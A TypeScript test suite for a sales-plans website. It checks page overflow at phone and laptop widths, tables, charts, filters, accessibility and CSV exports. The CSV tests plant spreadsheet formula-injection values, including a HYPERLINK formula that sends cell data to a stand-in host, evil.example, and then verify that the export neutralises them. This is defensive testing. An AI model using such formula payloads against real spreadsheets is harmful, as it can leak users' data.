import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildSiteInBackground, findAccessibilityViolations, ROOT, useBuiltSite, waitForDiagrams } from './helpers.ts';

// Every page of the built example, not a sample: at 390 px (a phone) and 1280 px (a laptop) nothing may push
// the page sideways or hang outside a box that scrolls. And the CSV downloads of a workspace whose text is
// written to run as a spreadsheet formula reach the reader as text.
const TODAY = '2026-11-24';
const WIDTHS = [390, 1280] as const;
/** Plan text written to run as a spreadsheet formula (the CSV downloads' tests, at the end). */
const CSV_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open"), Inc.';
const CSV_PERSON = '@SUM(1+1) "Ann"';
const site = useBuiltSite('plans', { TODAY });

/**
 * The workspace of the CSV downloads below: the minimal fixture with an account, a person and a goal named as
 * spreadsheet formulas. Built from the start of the file, while the pages of the example are checked.
 */
const hostilePlans = join(mkdtempSync(join(tmpdir(), 'csv-hostile-')), 'plans');
const hostileBuild = (() => {
  cpSync(join(ROOT, 'tests/fixtures/minimal'), hostilePlans, { recursive: true });
  const acme = join(hostilePlans, 'accounts/acme.yaml');
  writeFileSync(acme, readFileSync(acme, 'utf8').replace('name: Acme', `name: ${JSON.stringify(CSV_NAME)}`));
  const team = join(hostilePlans, 'team.yaml');
  writeFileSync(team, readFileSync(team, 'utf8').replace('name: Ann Lee', `name: ${JSON.stringify(CSV_PERSON)}`));
  const goals = join(hostilePlans, 'goals.yaml');
  writeFileSync(goals, readFileSync(goals, 'utf8').replace('revenue: 600 }', 'revenue: 600, name: "+1 direct, -2" }'));
  const build = buildSiteInBackground(hostilePlans, { TODAY });
  // Awaited in the CSV tests' beforeAll, which reports a failed build; until then it is no unhandled rejection.
  build.catch(() => {});
  return build;
})();

/** Every page of a built site, as paths relative to its root ("", "accounts/acme/"). */
function pagesOf(dir: string): string[] {
  const out: string[] = [];
  const walk = (d: string) => {
    for (const name of readdirSync(d)) {
      const path = join(d, name);
      if (statSync(path).isDirectory()) {
        if (name !== 'pagefind' && name !== '_astro') walk(path);
      } else if (name === 'index.html') out.push(d === dir ? '' : `${relative(dir, d)}/`);
    }
  };
  walk(dir);
  return out.sort();
}

/** Elements of main whose right edge passes the screen with no scrolling box around them; and tables outside one. */
function overflowing(page: Page): Promise<{ wide: string[]; unboxed: string[] }> {
  return page.evaluate(() => {
    const width = document.documentElement.clientWidth;
    const scrolls = (el: Element) => {
      for (let a = el.parentElement; a; a = a.parentElement) if (getComputedStyle(a).overflowX !== 'visible') return true;
      return false;
    };
    const name = (el: Element) => `${el.tagName.toLowerCase()} "${(el.textContent ?? '').trim().slice(0, 30)}"`;
    const wide = [...document.querySelectorAll('main *')].filter((el) => !el.closest('svg') && el.getBoundingClientRect().right > width + 1 && !scrolls(el)).map(name);
    // A table of plan data grows with the plans: it must sit in a box that scrolls, or reflow (.stack).
    const unboxed = [...document.querySelectorAll('main table.data:not(.stack)')].filter((t) => !t.closest('.table-wrap')).map(name);
    return { wide: wide.slice(0, 5), unboxed };
  });
}

describe.each(WIDTHS)('every page of the example site at %i px', (width) => {
  it('is no wider than the screen, and every table of figures has its own scrolling box', async () => {
    const paths = pagesOf(site.dir);
    expect(paths.length).toBeGreaterThan(60);
    const page = await site.browser.newPage({ viewport: { width, height: 900 } });
    const problems: string[] = [];
    for (const path of paths) {
      expect((await page.goto(site.url + path))?.status(), path).toBe(200);
      await waitForDiagrams(page);
      const scrollWidth = await page.evaluate(() => document.documentElement.scrollWidth);
      const { wide, unboxed } = await overflowing(page);
      if (scrollWidth > width) problems.push(`/${path} is ${scrollWidth} px wide`);
      if (wide.length > 0) problems.push(`/${path} overflows: ${wide.join(', ')}`);
      if (unboxed.length > 0) problems.push(`/${path} has tables outside a scroll box: ${unboxed.join(', ')}`);
    }
    await page.close();
    expect(problems).toEqual([]);
    // About 70 pages, each waiting for its diagrams: a crawl, not a timed assertion.
  }, 300_000);
});

describe('what a reader sees without scrolling sideways', () => {
  it('shows every column of the accounts table on a laptop, "Last reviewed" included', async () => {
    const page = await site.browser.newPage({ viewport: { width: 1280, height: 900 } });
    await page.goto(`${site.url}accounts/`);
    const box = await page.locator('#accounts').evaluate((t) => {
      const wrap = t.closest('.table-wrap')!;
      return { scroll: wrap.scrollWidth, client: wrap.clientWidth, last: t.querySelector('thead th:last-child')!.textContent };
    });
    expect(box.last).toBe('Last reviewed');
    expect(box.scroll).toBeLessThanOrEqual(box.client);
    // Figures come right after the name, so a phone shows them beside the sticky first column.
    expect((await page.locator('#accounts thead th').allTextContents()).slice(0, 3)).toEqual(['Account', 'Planned FY2027', 'Sold FY2026']);
    await page.close();
  });

  it('reflows each finding on a phone so that its sentence is on screen', async () => {
    const page = await site.browser.newPage({ viewport: { width: 390, height: 900 } });
    await page.goto(`${site.url}findings/`);
    const cells = await page.locator('#findings td.finding-text').evaluateAll((tds) => tds.map((td) => Math.round(td.getBoundingClientRect().right)));
    expect(cells.length).toBeGreaterThan(0);
    expect(cells.filter((right) => right > 390)).toEqual([]);
    // Still one row per finding for the filters and for screen readers.
    expect(await page.locator('#findings').getAttribute('role')).toBe('table');
    expect(await page.locator('#findings tbody tr[role=row]').count()).toBe(cells.length);
    await page.close();
  });

  it('takes a short goal on the home page to the accounts that make it up', async () => {
    const page = await site.browser.newPage({ viewport: { width: 390, height: 900 } });
    await page.goto(site.url);
    const goal = page.locator('#shortfalls ~ .goal-bars a.goal-label').first();
    const label = await goal.textContent();
    await goal.click();
    await page.waitForURL(/goals\/#goal-\d+$/);
    const section = page.locator(`section${new URL(page.url()).hash}`);
    expect(await section.locator('h2').textContent()).toBe(label);
    const accounts = section.locator('details table a');
    expect(await accounts.count()).toBeGreaterThan(0);
    expect(await accounts.first().isVisible()).toBe(true);
    await page.close();
  });

  it('opens a buying-decision chart wider than a phone at its top node, readable (at three quarters of its drawn size or more)', async () => {
    const page = await site.browser.newPage({ viewport: { width: 390, height: 900 } });
    await page.goto(`${site.url}accounts/${WIDEST_CHART}/`);
    await waitForDiagrams(page);
    const view = await page.locator('.buying-decision .diagram-scroll').evaluate((box) => {
      const nodes = [...box.querySelectorAll('g.node')].map((n) => n.getBoundingClientRect());
      const top = nodes.sort((a, b) => a.top - b.top)[0]!;
      const rect = box.getBoundingClientRect();
      const svg = box.querySelector('svg')!;
      return { scrolls: box.scrollWidth > box.clientWidth, scrolled: box.scrollLeft, center: top.left + top.width / 2, left: rect.left, right: rect.right, scale: svg.getBoundingClientRect().width / svg.viewBox.baseVal.width };
    });
    expect(view.scrolls).toBe(true);
    expect(view.scrolled).toBeGreaterThan(0);
    expect(view.center).toBeGreaterThan(view.left);
    expect(view.center).toBeLessThan(view.right);
    expect(view.scale).toBeGreaterThanOrEqual(0.75);
    await page.close();
  });
});

/** The largest plan of the example, whose buying-decision chart is drawn about 1,600 px wide. */
const WIDEST_CHART = 'columbia-basin-water';

/** A strategic plan of the example, for the phone, theme and menu checks. */
const STRATEGIC = 'columbia-basin-water';

describe('the leader\'s pages at 390 and 1280 px, light and dark (issue 26)', () => {
  it('fits the widest buying-decision chart in its box at 1280 px, with zoom buttons, and caption and legend outside the scrolling box', async () => {
    const page = await site.browser.newPage({ viewport: { width: 1280, height: 900 } });
    await page.goto(`${site.url}accounts/${WIDEST_CHART}/`);
    await waitForDiagrams(page);
    const figure = page.locator('.buying-decision figure.diagram');
    const measure = () => figure.evaluate((f) => {
      const box = f.querySelector('.diagram-scroll')!;
      const svg = box.querySelector('svg')!.getBoundingClientRect();
      const rect = box.getBoundingClientRect();
      return { fits: svg.left >= rect.left - 1 && svg.right <= rect.right + 1, scrolls: box.scrollWidth > box.clientWidth + 1, legendOutside: !f.querySelector('.legend')!.closest('.diagram-scroll'), captionOutside: !f.querySelector('figcaption')!.closest('.diagram-scroll') };
    });
    expect(await measure()).toEqual({ fits: true, scrolls: false, legendOutside: true, captionOutside: true });
    await figure.getByRole('button', { name: /Zoom into/ }).click();
    await figure.getByRole('button', { name: /Zoom into/ }).click();
    expect((await measure()).scrolls).toBe(true);
    await figure.getByRole('button', { name: 'Fit' }).click();
    expect(await measure()).toMatchObject({ fits: true, scrolls: false });
    await page.close();
  });

  it('shows stance and our contact of every stakeholder, and due date and status of every action, on a phone without scrolling sideways', async () => {
    const page = await site.browser.newPage({ viewport: { width: 390, height: 900 } });
    await page.goto(`${site.url}accounts/${STRATEGIC}/`);
    const offScreen = await page.evaluate(() => {
      const cells = [...document.querySelectorAll('.buying-decision table td[data-label="Stance"], .buying-decision table td[data-label="Our contact"], #actions ~ .table-wrap td[data-label="Due"], #actions ~ .table-wrap td[data-label="Status"]')];
      return { count: cells.length, out: cells.filter((c) => { const r = c.getBoundingClientRect(); return r.width === 0 || r.right > 390 || r.left < 0; }).map((c) => c.textContent) };
    });
    expect(offScreen.count).toBeGreaterThan(8);
    expect(offScreen.out).toEqual([]);
    await page.close();
  });

  it('gives a strategic account page a menu of its sections, each leading to its heading', async () => {
    const page = await site.browser.newPage({ viewport: { width: 1280, height: 900 } });
    await page.goto(`${site.url}accounts/${STRATEGIC}/`);
    const menu = page.getByRole('navigation', { name: 'Sections of this plan' });
    const targets = await menu.locator('a').evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).hash));
    expect(targets).toEqual(expect.arrayContaining(['#stakeholders', '#actions', '#risks', '#competitors']));
    for (const hash of targets) expect(await page.locator(`h2${hash}`).count(), hash).toBe(1);
    await page.close();
  });

  it('reads the accounts filters from the URL and writes them back', async () => {
    const page = await site.browser.newPage({ viewport: { width: 390, height: 900 } });
    await page.goto(`${site.url}accounts/?region=emea`);
    const rows = page.locator('#accounts tbody tr');
    const shown = await rows.evaluateAll((trs) => trs.filter((t) => !(t as HTMLElement).hidden).map((t) => (t as HTMLElement).dataset['dimRegion']));
    expect(shown.length).toBeGreaterThan(0);
    expect(new Set(shown)).toEqual(new Set(['emea']));
    expect(await page.locator('#account-filters select[name="dim-region"]').inputValue()).toBe('emea');
    await page.locator('#account-filters select[name="status"]').selectOption('current');
    expect(Object.fromEntries(new URL(page.url()).searchParams)).toEqual({ region: 'emea', status: 'current' });
    await page.locator('#account-filters select[name="dim-region"]').selectOption('');
    expect(new URL(page.url()).search).toBe('?status=current');
    await page.close();
  });

  it.each(['light', 'dark'] as const)('has no serious accessibility violation in the %s theme on a strategic account page, the changes page and home', async (theme) => {
    const page = await site.browser.newPage({ viewport: { width: 1280, height: 900 }, colorScheme: theme });
    for (const path of [`accounts/${STRATEGIC}/`, 'changes/', '']) {
      await page.goto(site.url + path);
      await waitForDiagrams(page);
      expect(await findAccessibilityViolations(page), `${theme} /${path}`).toEqual([]);
    }
    await page.close();
  });
});

describe('the goals download', () => {
  it('has, column by column, the figures of the goals table, a dash on the page being an empty cell', async () => {
    const page = await site.browser.newPage({ viewport: { width: 1280, height: 900 } });
    await page.goto(`${site.url}goals/`);
    const href = (await page.getByRole('link', { name: /Download the goals as CSV/ }).getAttribute('href'))!;
    const [header, ...rows] = parse(await (await page.request.get(new URL(href, page.url()).href)).text()) as string[][];
    // The annual and the quarterly table, in page order; each cell by its column's heading.
    const tables = page.locator('.goals-summary table.data');
    const onPage: Record<string, string>[] = [];
    for (let i = 0; i < (await tables.count()); i++) {
      const table = tables.nth(i);
      const heads = await table.locator('thead th').allTextContents();
      for (const cells of await table.locator('tbody tr').evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll('th, td')].map((c) => c.textContent!.trim())))) {
        onPage.push(Object.fromEntries(heads.map((h, j) => [h, cells[j]!])));
      }
    }
    await page.close();
    const col = (name: string) => header!.indexOf(name);
    const usd = (cell: string) => (cell === '' ? '—' : `$${Math.round(Number(cell)).toLocaleString('en-US')}`);
    const fromCsv = rows.map((r) => ({
      Goal: r[col('goal')]!,
      Target: usd(r[col('target (USD)')]!),
      Planned: usd(r[col('planned (USD)')]!),
      Booked: usd(r[col('booked (USD)')]!),
      'booked share': Number(r[col('booked share')]),
      Coverage: Number(r[col('coverage')]),
      Stretch: usd(r[col('stretch or forecast (USD)')]!),
      Plans: r[col('plans')]!,
    }));
    // The CSV keeps ratios to a tenth of a percent; the page rounds them to a whole one.
    const percent = (text: string | undefined) => Number(/(\d+)%/.exec(text ?? '')?.[1]);
    expect(onPage).toHaveLength(fromCsv.length);
    for (const [i, g] of fromCsv.entries()) {
      const shown = onPage[i]!;
      const { 'booked share': share, Coverage: coverage, ...figures } = g;
      expect(figures).toEqual({ Goal: shown['Goal'], Target: shown['Target'], Planned: shown['Planned'], Booked: shown['Booked']!.replace(/ \(\d+%\)$/, ''), Stretch: shown['Stretch or forecast'], Plans: shown['Plans'] });
      expect(Math.abs(coverage * 100 - percent(shown['Coverage']))).toBeLessThanOrEqual(0.5 + 1e-9);
      expect(Math.abs(share * 100 - percent(shown['Booked']))).toBeLessThanOrEqual(0.5 + 1e-9);
    }
    // Beside the stretch alone (a dash where no plan sets one), the table shows stretch or forecast: never a dash.
    expect(rows.some((r) => r[col('stretch (USD)')] === '')).toBe(true);
    expect(fromCsv.every((g) => g.Stretch !== '—')).toBe(true);
  });
});

describe('CSV downloads of plan text written as formulas', () => {
  const NAME = CSV_NAME;
  const PERSON = CSV_PERSON;
  let hostile: { dir: string } | undefined;

  beforeAll(async () => {
    hostile = await hostileBuild;
  });

  afterAll(async () => {
    const built = hostile ?? (await hostileBuild.catch(() => undefined));
    if (built) rmSync(join(built.dir, '..'), { recursive: true, force: true });
    rmSync(join(hostilePlans, '..'), { recursive: true, force: true });
  });

  /** The file as a spreadsheet's CSV reader (csv-parse, RFC 4180) reads it. */
  const read = (file: string): string[][] => parse(readFileSync(join(hostile!.dir, file), 'utf8'));

  it('keeps every text cell that starts like a formula as text, quoted where it holds a comma or quote', () => {
    const accounts = read('accounts.csv');
    const header = accounts[0]!;
    const acme = accounts.find((r) => r[0] === 'acme')!;
    expect(acme[header.indexOf('account')]).toBe(`'${NAME}`);
    expect(acme[header.indexOf('owner')]).toBe(`'${PERSON}`);
    expect(read('goals.csv').map((r) => r[0])).toContain("'+1 direct, -2");
    const book = read('people/ann-lee.csv');
    expect(book.map((r) => r[1])).toContain(`'${NAME}`);
    // No cell of any download starts with a character a spreadsheet would evaluate.
    for (const file of ['accounts.csv', 'goals.csv', 'people/ann-lee.csv', 'people/bo-kim.csv']) {
      const cells = read(file).flat();
      expect(cells.filter((c) => /^[=+@\t\r]/.test(c) || (/^-/.test(c) && !/^-\d/.test(c))), file).toEqual([]);
    }
  });

  it('writes the amounts as numbers a spreadsheet can sum', () => {
    const [header, ...rows] = read('accounts.csv');
    const planned = header!.findIndex((h) => h.startsWith('planned'));
    expect(rows.map((r) => r[planned])).toEqual(rows.map((r) => (r[planned] === '' ? '' : String(Number(r[planned])))));
    expect(rows.some((r) => Number(r[planned]) > 0)).toBe(true);
  });
});
